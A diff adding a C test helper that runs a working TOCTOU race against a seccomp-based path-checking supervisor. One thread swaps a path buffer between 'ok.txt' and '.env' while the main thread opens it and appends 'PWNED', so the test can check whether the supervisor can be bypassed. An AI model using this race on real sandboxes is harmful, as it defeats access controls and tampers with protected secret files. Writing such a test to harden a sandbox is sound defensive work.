@@ -1,0 +1,71 @@
+/* race_open: a TOCTOU attack on a path-checking supervisor.
+ *
+ *   race_open ITERATIONS
+ *
+ * One thread flips a shared path buffer between "ok.txt" and ".env" as fast as
+ * it can; the main thread calls openat(AT_FDCWD, buf, O_WRONLY|O_CREAT|O_APPEND)
+ * ITERATIONS times and writes "PWNED\n" through every fd it gets. A supervisor
+ * that checks the path it read from our memory and then lets the kernel re-read
+ * it (SECCOMP_USER_NOTIF_FLAG_CONTINUE) loses this race sooner or later and
+ * .env gains a line. Prints "opened=N failed=M" so the test can see that both
+ * sides of the race were actually exercised.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+/* Both names fit in 8 bytes, so one aligned 8-byte store flips the whole
+ * path: the opener sees one name or the other, never a torn mixture (which
+ * would only create stray files and weaken the attack). */
+static _Alignas(8) char path_buf[8];
+static atomic_int stop_flag;
+
+static void setPath(unsigned long long word) { __atomic_store_n((unsigned long long*)path_buf, word, __ATOMIC_RELAXED); }
+
+static unsigned long long wordOf(const char* s) {
+  unsigned long long w = 0;
+  memcpy(&w, s, strlen(s) + 1);
+  return w;
+}
+
+static void* flipper(void* arg) {
+  (void)arg;
+  const unsigned long long ok = wordOf("ok.txt"), env = wordOf(".env");
+  while (!atomic_load_explicit(&stop_flag, memory_order_relaxed)) {
+    setPath(ok);
+    setPath(env);
+  }
+  return NULL;
+}
+
+int main(int argc, char** argv) {
+  long iterations = argc > 1 ? strtol(argv[1], NULL, 10) : 100000;
+  setPath(wordOf("ok.txt"));
+  pthread_t t;
+  if (pthread_create(&t, NULL, flipper, NULL) != 0) {
+    perror("pthread_create");
+    return 2;
+  }
+  long opened = 0, failed = 0, other_errno = 0;
+  for (long i = 0; i < iterations; i++) {
+    int fd = openat(AT_FDCWD, path_buf, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
+    if (fd >= 0) {
+      ssize_t unused = write(fd, "PWNED\n", 6);
+      (void)unused;
+      close(fd);
+      opened++;
+    } else {
+      failed++;
+      if (errno != EACCES && errno != EPERM) other_errno++;
+    }
+  }
+  atomic_store(&stop_flag, 1);
+  pthread_join(t, NULL);
+  printf("opened=%ld failed=%ld other_errno=%ld\n", opened, failed, other_errno);
+  return 0;
+}
